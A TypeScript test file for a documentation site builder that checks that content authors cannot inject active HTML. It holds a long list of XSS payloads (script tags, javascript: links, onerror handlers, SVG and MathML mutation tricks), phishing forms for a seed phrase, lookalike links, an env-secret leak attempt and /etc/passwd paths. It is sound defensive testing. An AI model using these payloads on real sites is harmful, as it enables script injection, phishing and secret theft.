import { Parser } from "htmlparser2";
import * as builtIn from "../../../src/components/mdx/builtIn";
import { addressFault } from "../../../src/domain/addresses";
import { treeToHtml } from "../../../src/domain/treeHtml";
import { load, siteYml, source } from "../../../src/testing/builders";
import { renderTree } from "../../../src/testing/componentSamples";
import { pageMarkdown } from "../../site-output/pageMarkdown";

/**
 * What somebody who may only write content could try. Each is refused with a message, or says
 * nothing that a browser would run, load or be led away by.
 */
const BODIES = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  "<style>@import 'https://evil.example/a.css';</style>",
  '<p style="background:url(https://evil.example)">x</p>',
  '<form action="https://evil.example"><input name="seed"><button>Send</button></form>',
  '<dialog open><input type="password" placeholder="Recovery phrase"></dialog>',
  '<textarea name="seed"></textarea><select><option>x</select>',
  '<img src="https://evil.example/a.png" alt="">',
  '<img src="//evil.example/a.png" alt="">',
  '<img src=x alt="" onerror=alert(1)>',
  '<img src="/tide.png" alt="" srcset="https://evil.example/a.png 2x">',
  '<picture><source srcset="https://evil.example/a.png"><img src="/tide.png" alt=""></picture>',
  '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4"></video>',
  '<audio src="//evil.example/a.mp3"></audio><video><source src="https://evil.example/a.mp4"></video>',
  '<input type="image" src="https://evil.example/a.png">',
  '<a href="/" ping="https://evil.example">x</a>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x) [y](file:///etc/passwd) [z](ethereum:0x0/transfer)",
  "[x](//evil.example) [y](/\\evil.example) [z](\\\\evil.example)",
  "[https://app.example.com](https://app.examp1e.com)",
  "[x](https://app.example.com@evil.example)",
  "[x](https://app.example.com/\u202emoc.live)",
  "[x](https://app.exa\u200bmple.com)",
  "![x](https://evil.example/a.png)",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[x](../../../../etc/passwd) ![y](../../../../etc/passwd.png)",
  '<svg><a id="x"><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg onload="alert(1)"><set attributeName="onmouseover" to="alert(1)"/></svg>',
  '<svg><image href="https://evil.example/a.png"/><use href="https://evil.example/a.svg#a"/></svg>',
  "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
  "<svg><script>alert(1)</script><style>*{fill:url(//evil.example)}</style></svg>",
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<x-foo ONCLICK="alert(1)">x</x-foo>',
  '<div data-late=\'{"scripts":["https://evil.example/x.js"]}\'>x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<title>Other</title><plaintext>",
  "<template><script>alert(1)</script></template>",
  "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/a.png}$",
  '```mermaid alt="x"\ngraph TD\nA["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
  "```html\n<script>alert(1)</script>\n```",
  "`</script><script>alert(1)</script>`",
  "# </script><script>alert(1)</script>",
  "a[^1]\n\n[^1]: <script>alert(1)</script>",
  "| <img src=x onerror=alert(1)> |\n| - |\n| [x](javascript:alert(1)) |",
  ":::note <script>alert(1)</script>\n<script>alert(1)</script>\n:::",
  "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>",
  '<p contenteditable="true" autofocus tabindex="1" accesskey="x" popover="auto" is="x-y" slot="a">x</p>',
  '<a href="/x" download="../../evil.exe" data-late="1">x</a><a href="/?q=<script>alert(1)</script>">y</a>',
  '<svg><path fill="u\\72l(//evil.example)"/><g filter="url(https://evil.example#x)"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<!--><img src=x onerror=alert(1)>-->",
  '<table background="https://evil.example/a.png"><tr><td background="//evil.example">x</td></tr></table>',
  '<video src="/tide.mp4"><track src="https://evil.example/a.vtt"></video><audio src="data:audio/wav,x"></audio>',
  "[x](https:evil.example) [y](https:/evil.example) [z](http:\\\\evil.example)",
  "[x](blob:https://docs.example.com/1) [y](intent://x#Intent;end) [z](ws://evil.example)",
  "[x]: javascript:alert(1)\n\n[x] [x][] [t][x] ![x]",
  "[x](java%0ascript:alert(1)) [y](javascript&colon;alert(1)) [z](&#47;&#47;evil.example)",
  "[Go to app.example.com now](https://evil.example)",
  '[x](https://evil.example "https://app.example.com")',
  "$\\style{background:url(//evil.example)}{x}$ $\\url{javascript:x}$ $\\def\\a{\\a\\a}\\a$",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
  ":::constructor\nx\n:::\n\n:::__proto__\nx\n:::\n\n```__proto__\nx\n```\n\n:constructor: [^constructor]",
];
/** What a `.md` file could try by being read as MDX, as those of Docusaurus are. */
const MDX_IN_MD = [
  '<Image src="//evil.example/a.png" alt="x" />',
  '<Image file="content/site.yml" alt="x" />',
  "<Diagram svg={'<svg onload=alert(1)></svg>'} alt='x' />",
  "<CodeBlock lines={[[{ text: 'x', style: 'background:url(//evil.example)' }]]} />",
  "<a href='javascript:alert(1)' onClick='x'>x</a>",
  "<a href={process.env.X}>x</a> {alert(1)}",
  "<Script>alert(1)</Script> <Math.constructor />",
];
const MDX = [
  "{process.env.ALGOLIA_WRITE_KEY}",
  'export const S = "SCRIPT"\n\n<S>alert(1)</S>',
  '{({ type: "script", children: ["alert(1)"] })}',
  "<Card to='javascript:alert(1)' title='x' />",
  "<Card to='//evil.example' title='x' />",
  "<Card to='/' title={{ type: 'script', children: ['alert(1)'] }} />",
  "<div {...{ onClick: 'alert(1)', dangerouslySetInnerHTML: { __html: '<script>x</script>' } }} />",
  "<CodeBlock lines={[]} /> <Math /> <Diagram />",
  "<iFRAME srcDoc='<script>alert(1)</script>' />",
  "{<script>alert(1)</script>}",
  "{import('node:fs')} {globalThis} {this} {(() => 1)()} {eval`1`}",
  "<a href={`java${'script'}:alert(1)`}>x</a> <a href={['javascript:alert(1)']}>y</a>",
  "<a href>x</a> <a href={5}>y</a> <img src={{}} alt='x' /> <br>x</br> <video src poster={1} />",
  "<div innerHTML='<img src=x onerror=1>' dangerouslySetInnerHTML='x'>z</div>",
  "<__proto__ /> <Constructor /> <constructor /> <p __proto__='x'>y</p>",
  "<Admonition type='constructor'>x</Admonition> <Admonition type={{}}>x</Admonition>",
  "<ExampleValue k='constructor' /> <StatusBadge status='__proto__' name='x' /> <Term id='constructor'>x</Term>",
  "<Card to='https://evil.example' title='app.example.com' />",
  "<Hero actions={[{ label: 'x', to: 'javascript:alert(1)' }]} image='https://evil.example/a.png' />",
  "<figure><img src='https://evil.example/a.png' alt='x' /></figure>",
  "<Details summary={<script>alert(1)</script>}>x</Details>",
];

/** What a browser would run, load or follow in HTML. */
function dangersIn(html: string, controls = /^(input|button|textarea)$/): string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (
        /^(script|iframe|object|embed|base|meta|link|style|form|animate|set|use|foreignobject|image)$/.test(
          name,
        ) ||
        controls.test(name)
      )
        dangers.push(`<${name}>`);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on|^(style|srcset|srcdoc|ping|formaction|xlink:href)$/.test(key)) dangers.push(key);
        if (/^(href|src|poster)$/.test(key) && addressFault(value)) dangers.push(value);
        if (
          /^(src|poster)$/.test(key) &&
          /^https?:/.test(value) &&
          !value.startsWith("https://docs.example.com")
        )
          dangers.push(value);
      }
    },
  });
  parser.write(html);
  return dangers;
}

const PLACE = {
  base: "https://docs.example.com",
  pageUrl: "https://docs.example.com/a",
  pictures: new Map(),
};

test.each([
  ...BODIES.flatMap((body) => [["md", body] as const, ["mdx", body] as const]),
  ...MDX.map((body) => ["mdx", body] as const),
  ...MDX_IN_MD.map((body) => ["md", `import a from "./b.mdx"\n\n${body}`] as const),
])("in .%s %j is refused or inert", async (format, body) => {
  const { docs, problems } = await load([
    source(`content/docs/a.${format}`, `---\ntitle: A\n---\n\n${body}\n`),
  ]);
  const html = docs.map(({ tree }) => treeToHtml(tree, PLACE, builtIn)).join("");
  const isReported = problems.length > 0;
  expect(dangersIn(html)).toStrictEqual([]);
  expect(isReported || !/evil|javascript:|passwd/.test(html)).toBe(true);
  const copies = docs.map((doc) => pageMarkdown(doc, PLACE, builtIn)).join("");
  expect(copies.replace(/```.*?```|`[^`]*`|\\<|<https?:[^<>\s]*>/gs, "")).not.toMatch(/<[a-z!/]/i);
  const isRefused = problems.some(({ severity }) => severity === "error");
  if (!isRefused) expect(docs.flatMap(({ tree }) => dangersIn(renderTree(tree), /^$/))).toEqual([]);
  const ofLines = problems.filter(({ message }) => message !== "The page has no text.");
  for (const { line } of ofLines) expect(line).toBeGreaterThan(3);
});

test("the dangerous constructs are dangerous in a page that has them", () => {
  expect(
    dangersIn(
      '<a href="javascript:x" onclick="x"><script></script><img src="https://evil.example/a">',
    ),
  ).toStrictEqual(["javascript:x", "onclick", "<script>", "https://evil.example/a"]);
});

test.each([
  ["mainUrl", { mainUrl: "javascript:alert(1)" }],
  ["url", { url: "data:text/html,x" }],
  ["repositoryUrl", { repositoryUrl: "file:///etc" }],
  ["url", { url: "https://docs.example.com@evil.example" }],
  [
    "footer.columns.0.links.0.href",
    { footer: { columns: [{ title: "x", links: [{ label: "x", href: "javascript:x" }] }] } },
  ],
  [
    "footer.columns.0.links.0.to",
    { footer: { columns: [{ title: "x", links: [{ label: "x", to: "//evil.example" }] }] } },
  ],
  ["navbar.links.0.to", { navbar: { links: [{ label: "x", to: "/\\evil.example" }] } }],
  [
    "announcement.link.href",
    { announcement: { id: "a", text: "x", link: { label: "x", href: "vbscript:x" } } },
  ],
  ["banner.image", { banner: { image: "//evil.example/a.png", alt: "x" } }],
  ["search.reportUrl", { search: { reportUrl: "javascript:{query}" } }],
])("site.yml cannot have another address at %s", async (key, values) => {
  const { problems } = await load([siteYml(values)]);
  expect(
    problems.filter(({ severity }) => severity === "error").map(({ message }) => message),
  ).toStrictEqual([expect.stringContaining(`"${key}" is not valid`)]);
});

test.each(["url: 'javascript:x'", "image: //evil.example/a.png", "url: 'https://a@evil.example'"])(
  "authors.yml cannot have %s",
  async (line) => {
    const { problems } = await load([
      source("content/blog/authors.yml", `ada: { name: Ada, ${line} }\ngrace: { name: Grace }\n`),
    ]);
    expect(problems.map(({ file, severity }) => `${severity} ${file}`)).toContain(
      "error content/blog/authors.yml",
    );
  },
);
